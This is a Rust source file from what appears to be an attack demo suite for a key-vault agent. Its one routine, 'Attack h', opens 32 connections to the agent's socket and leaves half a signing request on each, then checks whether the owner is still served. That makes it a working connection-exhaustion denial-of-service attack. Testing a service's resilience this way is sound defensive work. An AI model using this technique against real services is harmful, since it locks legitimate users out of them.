//! Attack h: use the vault up.

use std::thread;
use std::time::Duration;

use wire::request::{Request, SignRequest};

use super::{Outcome, Target};
use crate::demo::agent::Connection;
use crate::error::Error;

/// More than the demo's agents may have open.
const CONNECTIONS: usize = 32;
/// How often the vault's own user looks while the attack builds up.
const LOOKS: usize = 40;
const BETWEEN_LOOKS: Duration = Duration::from_millis(100);

/// Many connections, each with half a message: the vault's own user is no longer served.
pub(super) fn use_up_connections(target: &mut Target<'_>) -> Result<Outcome, Error> {
    let message = Request::Sign(SignRequest {
        key: &[0; 1000],
        data: &[],
        flags: 0,
    });
    let whole = wire::frame::encode(&message.rebuild());
    let half = whole.get(..whole.len() / 2).unwrap_or_default();
    let mut held = Vec::new();
    for _ in 0..CONNECTIONS {
        let Ok(mut connection) = Connection::open(&target.socket) else {
            break;
        };
        // Whoever is not let in is not held either.
        let _ = connection.send(half);
        held.push(connection);
    }
    for _ in 0..LOOKS {
        if target.agent.keys().is_none() {
            return Ok(Outcome::Reached("owner gets no answer".to_owned()));
        }
        thread::sleep(BETWEEN_LOOKS);
    }
    Ok(Outcome::Missed("owner served as before".to_owned()))
}
